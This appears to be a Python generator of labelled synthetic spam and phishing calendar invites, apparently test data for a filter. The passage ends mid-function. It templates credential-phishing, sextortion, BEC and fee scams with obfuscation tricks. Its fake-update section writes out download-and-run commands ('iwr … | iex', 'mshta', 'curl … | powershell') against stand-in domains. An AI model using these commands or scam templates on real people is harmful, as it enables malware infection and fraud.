# -*- coding: utf-8 -*-
"""Spam categories for holdout7.  Each function takes (rng, n) and returns a message spec."""
import datetime as dt
from core import (S, H, LANGS, arrival, person, fake_addr, recipient, money, phone, iban, btc, code, zerowidth, homoglyph,
                  pick_lang, shortener, redirector, hosted, fresh, lure_url, meet_link, org_domain, org_name, free_addr, spec,
                  mkev, html_of, rstr, ALNUM)

ALL = ['de', 'fr', 'es', 'it', 'pt', 'nl', 'pl', 'sv', 'cs', 'tr', 'ru', 'el', 'ar', 'ja', 'zh', 'ko', 'hi']


def L(rng, key, p_en=0.5, pool=ALL):
    return pick_lang(rng, pool, key, S, p_en)


def fill(lang, key, **kw):
    return S[lang][key].format(**kw)


def many(rng, k, lang='en', doms=None):
    out = []
    for _ in range(k):
        nm = person(rng, rng.choice(['en', 'en', lang]))
        d = rng.choice(doms or ['example.net', 'example.net', 'example.org', 'inbox.example', 'mailbox.test'])
        out.append((None if rng.random() < 0.6 else nm, fake_addr(rng, nm if lang not in ('ja', 'zh', 'ko', 'hi', 'ar', 'ru', 'el') else person(rng, 'en'), d, rng.choice(['dotnum', 'plain', 'init']))))
    return out


def victim_atts(to, extra=()):
    return [(to[0][0], to[0][1], 'NEEDS-ACTION')] + [(n, e, 'NEEDS-ACTION') for n, e in extra]


# ------------------------------------------------------------------ 1 retail sale waves (iCloud 2016 style)
def retail(rng, n):
    lang = rng.choice(['en', 'en', 'en', 'zh', 'zh', 'ja', 'ru', 'es'])
    when = arrival(rng, 2016, 2017) if n <= 8 else arrival(rng, 2018, 2020)
    brand = rng.choice(['Ray-Ban', 'Oakley', 'UGG', 'Michael Kors', 'Pandora', 'Coach', 'Louis Vuitton', 'Nike'])
    pct = rng.choice([70, 80, 85, 90])
    amt = money(rng, lang, 15, 39)
    url = rng.choice(['http://www.%s-outlet%d.test/' % (brand.lower().replace(' ', '').replace('-', ''), rng.randint(1, 99)), shortener(rng), 'http://%s.example/%s' % (rstr(rng, 8), rstr(rng, 4))])
    if 'sale' in S[lang]:
        line = fill(lang, 'sale', pct=pct, a=amt)
    else:
        lang, line = 'en', fill('en', 'sale', pct=pct, a=money(rng, 'en', 15, 39))
    title = rng.choice(['%s %d%% OFF' % (brand, pct), '%s sunglasses only %s today' % (brand, amt), '★ %s Black Friday ★' % brand]) if lang == 'en' else line.split('！')[0].split('!')[0]
    if rng.random() < 0.4:
        title = zerowidth(rng, title)
    to = [recipient(rng)]
    others = many(rng, rng.randint(8, 40))
    sender = person(rng, rng.choice(['en', 'zh']))
    frm = (sender, free_addr(rng, 'icloud', sender))
    desc = '%s %s\n%s' % (brand, line, url)
    ev = mkev(rng, when, title, desc, frm, victim_atts(to, others), lang, days=(0, 3), tz=None, url=url if rng.random() < 0.5 else None)
    body = '' if rng.random() < 0.5 else None
    return spec(rng, lang, 'icloud', frm, to, title, ev, when, desc='iCloud-style sale wave, %d invitees' % (len(others) + 1),
                body_empty=body == '', to_show=rng.choice([1, 3]))


# ------------------------------------------------------------------ 2 prize / survey / gift card
def prize(rng, n):
    lang = {2: 'el', 5: 'ko', 8: 'ar'}.get(n) or L(rng, 'prize')
    when = arrival(rng, 2017, 2026)
    shop = rng.choice(['Costco', 'Walmart', 'Amazon', 'Lidl', 'Aldi', 'Carrefour', 'IKEA', 'Tesco', 'MediaMarkt'])
    amt = money(rng, lang, 50, 1000, cents=False)
    url = lure_url(rng, rng.choice(['host', 'short', 'redir']))
    line = fill(lang, 'prize', a=amt)
    title = rng.choice(['%s: %s' % (shop, line.split('!')[0].split('！')[0]), '%s loyalty reward – %s' % (shop, amt), '🎁 %s' % line.split('.')[0]])
    obf = ''
    if rng.random() < 0.35:
        title = homoglyph(rng, title); obf = 'homoglyphs in title'
    elif rng.random() < 0.35:
        title = zerowidth(rng, title); obf = 'zero-width characters in title'
    setup = rng.choice(['gmail', 'outlookcom', 'trial', 'noauth', 'yahoo'])
    nm = rng.choice(['%s Rewards' % shop, 'Customer Survey', person(rng, 'en')])
    frm = (nm, free_addr(rng, setup, person(rng, 'en')) if setup in ('gmail', 'outlookcom', 'yahoo') else ('survey@%s' % (rstr(rng, 6) + '.onmicrosoft.com' if setup == 'trial' else fresh(rng, 'rewards'))))
    to = [recipient(rng, lang)]
    desc = '%s\n\n%s\n\n%s' % (line, url, rng.choice(['Ref: %s' % code(rng, 8), '', 'Offer valid 24h.']))
    ev = mkev(rng, when, title, desc, frm, victim_atts(to), lang, days=(0, 2), loc=url if rng.random() < 0.4 else None)
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='%s gift card lure%s' % (shop, ', ' + obf if obf else ''))


# ------------------------------------------------------------------ 3 crypto / investment
def crypto(rng, n):
    lang = L(rng, 'inv')
    when = arrival(rng, 2018, 2026)
    pct = rng.choice([8, 12, 15, 20, 35])
    amt = money(rng, lang, 200, 300, cents=False)
    url = lure_url(rng)
    kind = rng.choice(['inv', 'inv', 'withdraw', 'giveaway'])
    if kind == 'inv':
        text = fill(lang, 'inv', pct=pct, a=amt)
        title = text.split('.')[0].split('。')[0][:70]
    elif kind == 'withdraw':
        lang = 'en'
        b = '%.4f' % (rng.randint(3000, 19000) / 10000)
        text = 'Your account balance of %s BTC is ready for withdrawal. Confirm the transfer within 24 hours or the funds will be returned to the pool. Support: %s' % (b, phone(rng, 'en'))
        title = rng.choice(['Pending withdrawal: %s BTC' % b, 'BTC transfer awaiting confirmation', 'Your crypto wallet: %s BTC available' % b])
    else:
        lang = 'en'
        text = 'Official giveaway: send any amount between 0.1 and 20 ETH to the address below and receive double back. Limited to the first 500 participants.\n0x%s' % rstr(rng, 40, '0123456789abcdef')
        title = 'ETH x2 giveaway – live now'
    setup = rng.choice(['trial', 'trial', 'gmail', 'lookalike', 'outlookcom'])
    nm = rng.choice(['Crypto Desk', 'Account Manager', person(rng, lang), 'Wallet Support'])
    if setup == 'trial':
        fa = '%s@%s%d.onmicrosoft.com' % (rng.choice(['admin', 'support', 'info']), rstr(rng, 7), rng.randint(1, 99))
    elif setup == 'lookalike':
        fa = 'desk@%s' % fresh(rng, rng.choice(['coinbase', 'binance', 'kraken', 'ledger']))
    else:
        fa = free_addr(rng, setup, person(rng, 'en'))
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    placement = rng.choice(['desc', 'url', 'conf', 'loc'])
    ev = mkev(rng, when, title, text + ('\n' + url if placement == 'desc' else ''), frm, victim_atts(to, many(rng, rng.randint(0, 6))), lang, days=(0, 5))
    ev[{'desc': 'x', 'url': 'url', 'conf': 'conf', 'loc': 'loc'}[placement]] = url
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='crypto/investment lure, link in %s' % {'desc': 'DESCRIPTION', 'url': 'URL', 'conf': 'CONFERENCE', 'loc': 'LOCATION'}[placement])


# ------------------------------------------------------------------ 4 dating / sextortion
def dating(rng, n):
    sext = n % 3 == 0
    lang = L(rng, 'sext' if sext else 'date', 0.45)
    when = arrival(rng, 2016, 2026)
    name = rng.choice(LANGS['en']['first'][:0] + ['Anna', 'Kristina', 'Olga', 'Sofia', 'Vika', 'Lena', 'Mia', 'Daria', 'Yuki', 'Ирина'])
    if sext:
        amt = rng.choice(['$1200', '$1450', '$950', '1350 USD', '€1100'])
        text = fill(lang, 'sext', a=amt) + '\n\nBTC: ' + btc(rng)
        title = rng.choice(['Your account has been hacked', 'Security notice', 'I know your password', '%s' % to_hex(rng)])
        setup = rng.choice(['noauth', 'gmail', 'yahoo', 'outlookcom'])
        url = None
    else:
        url = lure_url(rng, rng.choice(['short', 'fresh', 'host']))
        text = fill(lang, 'date', n=name) + '\n' + url
        title = rng.choice(['Hi dear ;)', '%s wants to meet you' % name, '❤ new message from %s' % name, 'Date tonight?']) if lang == 'en' else text.split(',')[0].split('、')[0][:40]
        setup = rng.choice(['gmail', 'yahoo', 'icloud', 'outlookcom'])
    nm = name if not sext else rng.choice(['', 'Security', person(rng, 'en')])
    to = [recipient(rng, lang)]
    if setup == 'noauth':
        fa = to[0][1] if rng.random() < 0.5 else 'info@%s' % fresh(rng, 'mail')
    else:
        fa = free_addr(rng, setup, name + ' ' + rstr(rng, 3))
    frm = (nm, fa)
    ev = mkev(rng, when, title, text, frm, victim_atts(to), lang, days=(0, 2), url=url if url and rng.random() < 0.5 else None)
    if rng.random() < 0.3 and not sext:
        ev['xalt'] = '<html><body><img src="https://%s/p/%s.jpg" width="320"><br><a href="%s">%s</a></body></html>' % (fresh(rng, 'pics'), rstr(rng, 8), url, 'See my photos')
    sp = spec(rng, lang, setup, frm, to, title, ev, when, desc='sextortion with bitcoin address' + (' (From equals recipient)' if fa == to[0][1] else '') if sext else 'dating lure')
    if fa == to[0][1]:
        sp['hdr_from_dom'] = fa.split('@')[1]
    return sp


def to_hex(rng):
    return 'Ref #%s' % rstr(rng, 8, '0123456789ABCDEF')


# ------------------------------------------------------------------ 5 parcel / toll / tax / fine fees
def fees(rng, n):
    kind = ['parcel', 'toll', 'tax', 'fine', 'parcel', 'toll'][n % 6]
    when = arrival(rng, 2019, 2026)
    if kind == 'parcel':
        lang = L(rng, 'parcel')
        carrier = {'en': rng.choice(['USPS', 'Royal Mail', 'FedEx', 'DHL']), 'de': 'DHL', 'fr': 'La Poste', 'es': 'Correos', 'it': 'Poste Italiane', 'pt': 'Correios', 'nl': 'PostNL', 'pl': 'InPost', 'sv': 'PostNord', 'cs': 'Česká pošta', 'tr': 'PTT Kargo', 'el': 'ΕΛΤΑ', 'ja': '日本郵便', 'zh': '顺丰速运'}.get(lang, 'DHL')
        amt = money(rng, lang, 1, 4)
        text = fill(lang, 'parcel', c=code(rng, 2) + str(rng.randint(10 ** 8, 10 ** 9)) + rng.choice(['GB', 'DE', 'US', 'CN']), a=amt)
        title = '%s: %s' % (carrier, text.split(':')[0].split('：')[0][:60])
        brand = carrier
    elif kind == 'toll':
        lang = L(rng, 'toll', 0.7)
        agency = {'en': rng.choice(['E-ZPass', 'SunPass', 'FasTrak', 'TxTag', 'Dart Charge']), 'de': 'Toll Collect', 'fr': 'Bip&Go', 'nl': 'e-Vignet', 'pt': 'Sem Parar'}.get(lang, 'E-ZPass')
        text = fill(lang, 'toll', a=money(rng, lang, 3, 12))
        title = '%s – %s' % (agency, text.split(':')[0][:50])
        brand = agency
    elif kind == 'tax':
        lang = rng.choice(['en', 'en', 'de', 'fr'])
        agency = {'en': rng.choice(['HMRC', 'IRS']), 'de': 'Bundeszentralamt für Steuern', 'fr': 'impots.gouv'}[lang]
        text = {'en': 'You are eligible for a tax refund of %s. Submit your claim before the deadline:' % money(rng, 'en', 200, 900),
                'de': 'Sie haben Anspruch auf eine Steuerrückerstattung von %s. Stellen Sie Ihren Antrag vor Fristende:' % money(rng, 'de', 200, 900),
                'fr': 'Vous êtes éligible à un remboursement d’impôt de %s. Déposez votre demande avant la date limite :' % money(rng, 'fr', 200, 900)}[lang]
        title = {'en': '%s: refund notification' % agency, 'de': 'Steuererstattung – Antrag erforderlich', 'fr': 'Avis de remboursement – action requise'}[lang]
        brand = agency
    else:
        lang = rng.choice(['en', 'fr', 'es', 'it', 'de'])
        text = {'en': 'Penalty notice: a parking fine of %s is unpaid. Pay within 3 days to avoid court action:' % money(rng, 'en', 40, 90),
                'fr': 'Avis de contravention : une amende de %s reste impayée. Payez sous 3 jours pour éviter une majoration :' % money(rng, 'fr', 35, 135),
                'es': 'Notificación de multa: tiene una sanción de %s pendiente. Pague en 3 días para evitar recargo:' % money(rng, 'es', 40, 200),
                'it': 'Avviso di contravvenzione: una multa di %s risulta non pagata. Paga entro 3 giorni per evitare maggiorazioni:' % money(rng, 'it', 40, 170),
                'de': 'Bußgeldbescheid: ein Verwarnungsgeld von %s ist offen. Zahlen Sie innerhalb von 3 Tagen:' % money(rng, 'de', 30, 120)}[lang]
        title = text.split(':')[0]
        brand = {'en': 'Parking Services', 'fr': 'ANTAI', 'es': 'DGT', 'it': 'Polizia Municipale', 'de': 'Bußgeldstelle'}[lang]
    url = lure_url(rng, rng.choice(['fresh', 'fresh', 'short', 'redir']), brand.lower().replace(' ', '').replace('-', '')[:8].encode('ascii', 'ignore').decode() or 'post')
    setup = rng.choice(['vps', 'vps', 'lookalike', 'noauth', 'gmail'])
    if setup == 'vps':
        fa = 'no-reply@%s' % rng.choice(['usps.com', 'royalmail.com', 'dhl.com', 'dhl.de', 'laposte.fr', 'correos.es', 'postnl.nl', 'hmrc.gov.uk', 'irs.gov', 'ezpassny.com'])
    elif setup == 'lookalike':
        fa = 'service@%s' % fresh(rng, rng.choice(['parcel', 'toll', 'track', 'gov']))
    elif setup == 'noauth':
        fa = 'info@%s' % org_domain(rng, 'test')
    else:
        fa = free_addr(rng, 'gmail', person(rng, 'en'))
    frm = (brand, fa)
    to = [recipient(rng, lang)]
    body_mode = rng.choice(['normal', 'attach-only', 'xalt'])
    ev = mkev(rng, when, title, text + '\n' + url, frm, victim_atts(to), lang, days=(0, 2), loc=url if rng.random() < 0.3 else None)
    extra = {}
    if body_mode == 'attach-only':
        extra['body_empty'] = True
    if body_mode == 'xalt':
        ev['xalt'] = html_of(text + '\n\n' + url)
        ev['desc'] = ''
    if rng.random() < 0.3:
        ev['alarms'] = ['-PT5M', '-PT1H', '-P1D']
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='%s fee scam (%s), %s' % (kind, brand, {'normal': 'link in body', 'attach-only': 'payload only in the .ics, empty body', 'xalt': 'text only in X-ALT-DESC'}[body_mode]), **extra)


# ------------------------------------------------------------------ 6 credential phishing, brands
BRANDS = [('Microsoft 365', 'microsoft.com', 'acct'), ('DocuSign', 'docusign.net', 'doc'), ('PayPal', 'paypal.com', 'acct'), ('Adobe Acrobat Sign', 'adobe.com', 'doc'),
          ('Chase', 'chase.com', 'acct'), ('Sparkasse', 'sparkasse.de', 'acct'), ('ING', 'ing.nl', 'acct'), ('GOV.UK', 'gov.uk', 'acct'), ('Netflix', 'netflix.com', 'acct'),
          ('Outlook Web App', 'outlook.com', 'acct'), ('Dropbox', 'dropbox.com', 'doc'), ('Ameli', 'ameli.fr', 'acct'), ('Santander', 'santander.com', 'acct'), ('SharePoint', 'sharepoint.com', 'doc')]


def phish(rng, n):
    brand, bdom, key = BRANDS[(n - 1) % len(BRANDS)]
    lang = {'Sparkasse': 'de', 'ING': 'nl', 'Ameli': 'fr'}.get(brand) or L(rng, key, 0.5, ['de', 'fr', 'es', 'it', 'pt', 'nl', 'pl', 'sv', 'cs', 'tr', 'el', 'ja', 'ru'])
    when = arrival(rng, 2017, 2026)
    f = 'Invoice_%d.pdf' % rng.randint(1000, 9999) if key == 'doc' else ''
    text = fill(lang, key, n=rng.choice(['Accounts Payable', 'HR Department', person(rng, lang)]), f=f)
    url = lure_url(rng, rng.choice(['fresh', 'host', 'redir', 'short', 'host']), bdom.split('.')[0])
    title = rng.choice(['%s: %s' % (brand, text.split('.')[0].split('。')[0][:60]), 'Action required – %s' % brand, '%s security alert' % brand]) if lang == 'en' else '%s – %s' % (brand, text.split('.')[0].split(':')[0].split('。')[0][:55])
    obf = []
    if rng.random() < 0.3:
        title = homoglyph(rng, title); obf.append('homoglyphs')
    setup = rng.choice(['vps', 'vps', 'lookalike', 'lookalike', 'trial', 'partner', 'gmail'])
    if setup == 'vps':
        fa = rng.choice(['no-reply', 'security', 'account-security-noreply', 'dse']) + '@' + bdom
    elif setup == 'lookalike':
        fa = 'notify@' + fresh(rng, bdom.split('.')[0][:6])
    elif setup == 'trial':
        fa = 'noreply@%s%d.onmicrosoft.com' % (rstr(rng, 6), rng.randint(1, 999))
    elif setup == 'partner':
        fa = fake_addr(rng, person(rng, 'en'), org_domain(rng))
        obf.append('sent from a compromised partner mailbox')
    else:
        fa = free_addr(rng, 'gmail', person(rng, 'en'))
    frm = (brand if setup != 'partner' else person(rng, 'en'), fa)
    to = [recipient(rng, lang)]
    mode = rng.choice(['desc', 'xalt', 'attach', 'url', 'conf'])
    ev = mkev(rng, when, title, text + '\n\n' + url, frm, victim_atts(to), lang, days=(0, 1))
    extra = {}
    if mode == 'xalt':
        ev['desc'] = ' '
        ev['xalt'] = '<html><body style="font-family:Segoe UI"><table width="520"><tr><td><b>%s</b><p>%s</p><a href="%s" style="background:#0067b8;color:#fff;padding:10px 18px">%s</a></td></tr></table></body></html>' % (brand, text, url, 'Review' if key == 'doc' else 'Verify')
        obf.append('text only in X-ALT-DESC')
        extra['body_empty'] = True
    elif mode == 'attach':
        extra['body_empty'] = True
        obf.append('payload only in the attached .ics')
    elif mode == 'url':
        ev['desc'] = text
        ev['url'] = url
        obf.append('link only in URL')
    elif mode == 'conf':
        ev['desc'] = text
        ev['conf'] = url
        ev['loc'] = url
        obf.append('link in LOCATION/CONFERENCE')
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='%s credential phish%s' % (brand, ', ' + ', '.join(obf) if obf else ''), **extra)


# ------------------------------------------------------------------ 7 callback scams (phone number is the payload)
def callback(rng, n):
    lang = L(rng, 'cb', 0.6)
    when = arrival(rng, 2019, 2026)
    prod = rng.choice(['Norton 360 Deluxe', 'McAfee Total Protection', 'Geek Squad Protection Plan', 'PayPal', 'Windows Defender Premium', 'Amazon Prime', 'Apple iCloud+ 2TB', 'Coinbase Pro'])
    amt = money(rng, lang, 299, 699)
    ph = phone(rng, 'en', 'us') if lang == 'en' or rng.random() < 0.5 else phone(rng, lang)
    text = fill(lang, 'cb', a=amt, p=ph)
    inv = 'INV-%d' % rng.randint(10 ** 7, 10 ** 8)
    title = rng.choice(['%s – Invoice %s' % (prod, inv), 'Order confirmation %s' % inv, 'Your %s subscription has been renewed' % prod, 'Payment Received %s' % amt])
    if rng.random() < 0.35:
        title = title + ' ' + ph
    setup = rng.choice(['gmail', 'gmail', 'outlookcom', 'yahoo', 'icloud', 'noauth'])
    nm = rng.choice(['Billing Department', prod, 'Support Team', person(rng, 'en')])
    fa = free_addr(rng, setup, person(rng, 'en')) if setup != 'noauth' else 'billing@' + org_domain(rng, 'test')
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    obf = ''
    if rng.random() < 0.3:
        text = text.replace(ph, ' '.join(ph))
        obf = ', phone number spaced out'
    elif rng.random() < 0.3:
        text = zerowidth(rng, text)
        obf = ', zero-width characters'
    ev = mkev(rng, when, title, text + '\n\n%s: %s\nQty 1  %s' % ('Invoice', inv, amt), frm, victim_atts(to), lang, days=(0, 2), loc=ph if rng.random() < 0.4 else None)
    if rng.random() < 0.3:
        ev['alarms'] = ['-PT10M', '-PT30M']
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='callback scam (%s), phone number only, no link%s' % (prod, obf))


# ------------------------------------------------------------------ 8 fake software updates and "paste this command"
def fakeupd(rng, n):
    when = arrival(rng, 2023, 2026) if n > 3 else arrival(rng, 2019, 2022)
    click = n > 3 and n % 2 == 0
    lang = L(rng, 'upd', 0.5, ['de', 'fr', 'pt', 'pl', 'cs', 'ru']) if not click else rng.choice(['en', 'en', 'de', 'fr', 'es'])
    d = fresh(rng, rng.choice(['cdn', 'update', 'verify', 'cloud']))
    if click:
        cmd = rng.choice(['powershell -w h -c "iwr https://%s/c.ps1 | iex"' % d, 'mshta https://%s/v.hta' % d, 'cmd /c curl -s https://%s/s | powershell -' % d])
        text = {'en': 'To open the meeting document, verify you are human:\n1. Press Windows + R\n2. Paste the code below (Ctrl + V)\n3. Press Enter\n\n%s\n\nVerification ID: %s' % (cmd, code(rng, 6)),
                'de': 'Um das Besprechungsdokument zu öffnen, bestätigen Sie, dass Sie kein Roboter sind:\n1. Windows-Taste + R drücken\n2. Code einfügen (Strg + V)\n3. Enter drücken\n\n%s' % cmd,
                'fr': 'Pour ouvrir le document de la réunion, prouvez que vous n’êtes pas un robot :\n1. Appuyez sur Windows + R\n2. Collez le code (Ctrl + V)\n3. Appuyez sur Entrée\n\n%s' % cmd,
                'es': 'Para abrir el documento de la reunión, verifique que no es un robot:\n1. Pulse Windows + R\n2. Pegue el código (Ctrl + V)\n3. Pulse Intro\n\n%s' % cmd}[lang]
        title = {'en': 'Meeting notes – verification required', 'de': 'Besprechungsnotizen – Bestätigung erforderlich', 'fr': 'Compte rendu – vérification requise', 'es': 'Acta de la reunión – verificación necesaria'}[lang]
        what = 'paste-this-command lure'
    else:
        prod = rng.choice(['Chrome', 'Microsoft Teams', 'Zoom', 'Adobe Reader', 'Edge'])
        url = 'https://%s/%s/%sSetup.exe' % (d, rstr(rng, 6), prod.replace(' ', ''))
        if rng.random() < 0.5:
            url = lure_url(rng, 'short')
        text = fill(lang, 'upd') + '\n' + url
        title = '%s update required' % prod if lang == 'en' else '%s – %s' % (prod, text.split('.')[0][:50])
        what = 'fake %s update' % prod
    setup = rng.choice(['partner', 'lookalike', 'trial', 'vps'])
    if setup == 'vps':
        fa = 'it-support@' + org_domain(rng, 'example')
    elif setup == 'partner':
        fa = fake_addr(rng, person(rng, 'en'), org_domain(rng))
    elif setup == 'trial':
        fa = 'it@%s.onmicrosoft.com' % rstr(rng, 8)
    else:
        fa = 'helpdesk@' + d
    frm = (rng.choice(['IT Helpdesk', 'IT Service Desk', person(rng, lang)]), fa)
    to = [recipient(rng, lang)]
    ev = mkev(rng, when, title, text, frm, victim_atts(to, many(rng, rng.randint(0, 4))), lang, days=(0, 1))
    if rng.random() < 0.4:
        ev['attach'] = 'https://%s/meeting/%s.html' % (d, rstr(rng, 8))
    return spec(rng, lang, setup, frm, to, title, ev, when, desc=what + ('' if setup != 'partner' else ', from a compromised partner mailbox'))


# ------------------------------------------------------------------ 9 business e-mail compromise
def bec(rng, n):
    kind = ['ceo', 'gift', 'bank', 'pay', 'ceo', 'bank', 'gift'][n % 7]
    lang = L(rng, kind, 0.5, ['de', 'fr', 'es', 'it', 'pt', 'nl', 'pl', 'sv', 'ja', 'zh', 'cs'])
    when = arrival(rng, 2016, 2026)
    to = [recipient(rng, lang)]
    victim_dom = to[0][1].split('@')[1]
    boss = person(rng, lang)
    if kind in ('ceo', 'gift'):
        text = fill(lang, kind, a=money(rng, lang, 100, 200, cents=False), x=rng.choice([4, 5, 6, 8]))
        title = rng.choice({'en': ['Quick request', 'Are you available?', 'Urgent', 'Confidential', 'Task'], 'de': ['Kurze Bitte', 'Dringend', 'Vertraulich'], 'fr': ['Demande rapide', 'Urgent', 'Confidentiel'],
                            'ja': ['至急', 'ご確認ください'], 'zh': ['紧急', '请尽快回复']}.get(lang, ['Urgent', text.split('?')[0][:30]]))
        setup = rng.choice(['gmail', 'outlookcom', 'lookalike', 'gmail'])
        fa = free_addr(rng, setup, boss + ' ceo') if setup != 'lookalike' else fake_addr(rng, boss, victim_dom.replace('.', '-mail.') if '.' in victim_dom else 'exec-mail.test')
        if setup == 'lookalike':
            fa = fake_addr(rng, boss, rng.choice(['exec-office.test', 'example-net.test', 'examp1e.net.test', 'board-example.test']))
        frm = (boss, fa)
        what = 'CEO fraud' if kind == 'ceo' else 'gift card request'
    elif kind == 'bank':
        sup = org_domain(rng)
        text = fill(lang, 'bank', i=iban(rng))
        title = {'en': 'Updated remittance details', 'de': 'Neue Bankverbindung', 'fr': 'Changement de coordonnées bancaires', 'es': 'Cambio de datos bancarios', 'nl': 'Nieuw rekeningnummer', 'zh': '银行账户变更通知'}.get(lang, 'IBAN')
        setup = rng.choice(['partner', 'partner', 'lookalike'])
        if setup == 'lookalike':
            a, b = sup.split('.')
            fa = fake_addr(rng, person(rng, lang), a.replace('l', 'I', 1).replace('o', '0', 1) + '-invoices.' + 'test')
            what = 'vendor bank-detail change from a look-alike domain'
        else:
            fa = fake_addr(rng, person(rng, lang), sup)
            what = 'vendor bank-detail change from a compromised supplier mailbox (passes authentication)'
        frm = (person(rng, lang) + ' | ' + org_name(sup), fa)
    else:
        emp = to[0][0]
        text = fill(lang, 'pay', i=iban(rng))
        title = {'en': 'Direct deposit change', 'de': 'Änderung Gehaltskonto', 'nl': 'Wijziging salarisrekening'}.get(lang, 'Payroll')
        setup = rng.choice(['gmail', 'outlookcom'])
        fa = free_addr(rng, setup, emp)
        frm = (to[0][0], fa)
        to = [(person(rng, lang), 'payroll@' + victim_dom)]
        what = 'payroll diversion from free mail'
    ev = mkev(rng, when, title, text, frm, victim_atts(to), lang, days=(0, 1), dur=15)
    extra = {}
    if rng.random() < 0.4:
        extra['reply_to'] = free_addr(rng, 'gmail', frm[0] + ' x')
        what += ', Reply-To to free mail'
    return spec(rng, lang, setup, frm, to, title, ev, when, desc=what, **extra)


# ------------------------------------------------------------------ 10 advance fee
def advance(rng, n):
    lang = rng.choice(['en', 'en', 'en', 'fr', 'es', 'pt', 'ar', 'ru'])
    if 'heir' not in S[lang]:
        lang = 'en'
    when = arrival(rng, 2016, 2026)
    amt = rng.choice(['$10.5 million', 'US$4,800,000', '€7.200.000', '$18,500,000', '£3.2 million'])
    text = fill(lang, 'heir', a=amt)
    who = rng.choice(['Barrister %s' % person(rng, 'en'), 'Mrs. %s' % person(rng, 'en'), 'UN Compensation Unit', 'Dr. %s, Foreign Remittance' % person(rng, 'en')])
    if lang == 'en':
        text = rng.choice(['Dear Friend,\n\n', 'Attention Beneficiary,\n\n', 'Greetings,\n\n']) + text + ' ' + rng.choice(['This transaction is 100% risk free.', 'Kindly treat as confidential.', 'Your share will be 40%.'])
    title = rng.choice(['Urgent Attention', 'Compensation Payment', 'Inheritance Claim', 'Re: your fund', 'Beneficiary File %s' % code(rng, 5)]) if lang == 'en' else text[:40]
    setup = rng.choice(['gmail', 'yahoo', 'outlookcom', 'noauth', 'partner'])
    fa = free_addr(rng, setup, who) if setup in ('gmail', 'yahoo', 'outlookcom') else ('info@' + org_domain(rng, 'test') if setup == 'noauth' else fake_addr(rng, person(rng, 'en'), org_domain(rng)))
    frm = (who, fa)
    to = [recipient(rng, lang)]
    others = many(rng, rng.randint(0, 25))
    ev = mkev(rng, when, title, text, frm, victim_atts(to, others), lang, days=(0, 3))
    sp = spec(rng, lang, setup, frm, to, title, ev, when, desc='advance-fee fraud, reply requested, no link')
    if rng.random() < 0.6:
        sp['reply_to'] = free_addr(rng, rng.choice(['gmail', 'outlookcom', 'yahoo']), who)
    return sp


# ------------------------------------------------------------------ 11 task / job scams moving victims to messengers
def taskjob(rng, n):
    lang = {3: 'ko', 6: 'ar'}.get(n) or L(rng, 'job', 0.4, ['es', 'pt', 'tr', 'ru', 'ar', 'ja', 'zh', 'ko', 'hi', 'de', 'fr', 'it', 'pl'])
    when = arrival(rng, 2021, 2026)
    amt = money(rng, lang, 80, 400, cents=False)
    handle = rng.choice(['@hr_%s' % rstr(rng, 6), 'hr%s' % rstr(rng, 5), 'job%d' % rng.randint(100, 999)])
    ph = phone(rng, lang, rng.choice(['ukm', 'us', 'uk']))
    text = fill(lang, 'job', a=amt, p=ph, x=handle)
    if rng.random() < 0.5:
        text += '\nhttps://wa.me/%s' % ''.join(c for c in ph if c.isdigit()) if 'WhatsApp' in text else '\nhttps://t.me/%s' % handle.strip('@')
    title = text.split(':')[0].split('：')[0].split('.')[0][:60]
    if rng.random() < 0.4:
        title = zerowidth(rng, title)
    setup = rng.choice(['gmail', 'gmail', 'outlookcom', 'icloud', 'trial'])
    nm = rng.choice(['HR %s' % person(rng, 'en'), 'Recruitment Team', person(rng, lang)])
    fa = free_addr(rng, setup, person(rng, 'en')) if setup != 'trial' else 'hr@%s.onmicrosoft.com' % rstr(rng, 9)
    frm = (nm, fa)
    to = [recipient(rng, lang)]
    others = many(rng, rng.randint(0, 30), lang)
    ev = mkev(rng, when, title, text, frm, victim_atts(to, others), lang, days=(0, 2), rrule='FREQ=DAILY' if rng.random() < 0.3 else None)
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='task/job scam moving the victim to a messenger', to_show=rng.choice([1, 1, 4]))


# ------------------------------------------------------------------ 12 document-share lures from compromised, authenticated partners
def docshare(rng, n):
    lang = rng.choice(['en', 'en', 'de', 'fr', 'nl', 'es', 'it', 'sv', 'pl', 'cs', 'pt'])
    if 'doc' not in S[lang]:
        lang = 'en'
    when = arrival(rng, 2019, 2026)
    pdom = org_domain(rng, 'example')
    pn = person(rng, lang)
    fa = fake_addr(rng, pn, pdom, 'dot')
    f = rng.choice(['Remittance_Advice_%d.pdf', 'Q%d_Statement.xlsx', 'Signed_Agreement_%d.pdf', 'Proposal_v%d.docx', 'PO-%d.pdf']) % rng.randint(1, 9999)
    svc = rng.choice(['OneDrive', 'SharePoint', 'Dropbox', 'Google Drive', 'WeTransfer', 'Box'])
    kind = rng.choice(['host', 'fresh', 'sp', 'redir', 'short'])
    if kind == 'sp':
        url = 'https://%s-my.sharepoint.com/:b:/g/personal/%s/%s' % (rstr(rng, 8), rstr(rng, 10), rstr(rng, 22, ALNUM))
        howlink = "attacker's own SharePoint tenant"
    else:
        url = lure_url(rng, kind, 'onedrive')
        howlink = {'host': 'public hosting', 'fresh': 'fresh look-alike domain', 'redir': 'open redirector', 'short': 'shortener'}[kind]
    text = fill(lang, 'doc', n=pn, f=f) + '\n' + url
    if lang == 'en':
        text = rng.choice(['Hi,\n\n', 'Good afternoon,\n\n', '']) + text + rng.choice(['\n\nThanks, %s' % pn, '\n\nRegards\n%s\n%s' % (pn, org_name(pdom)), ''])
    title = rng.choice(['%s shared "%s" with you' % (pn, f), '%s – %s' % (org_name(pdom), f), 'Document review: %s' % f, 'RE: %s' % f])
    setup = 'partner'
    frm = (pn, fa)
    to = [recipient(rng, lang)]
    ev = mkev(rng, when, title, text, frm, victim_atts(to, many(rng, rng.randint(0, 12))), lang, days=(0, 2), dur=30)
    if rng.random() < 0.3:
        ev['attach'] = url
    return spec(rng, lang, setup, frm, to, title, ev, when, desc='%s document-share lure from a compromised partner mailbox (passes DKIM/SPF/DMARC), link via %s' % (svc, howlink))


# ------------------------------------------------------------------ 13 nagging payloads (recurrence, alarms, far future)
def nagging(rng, n):
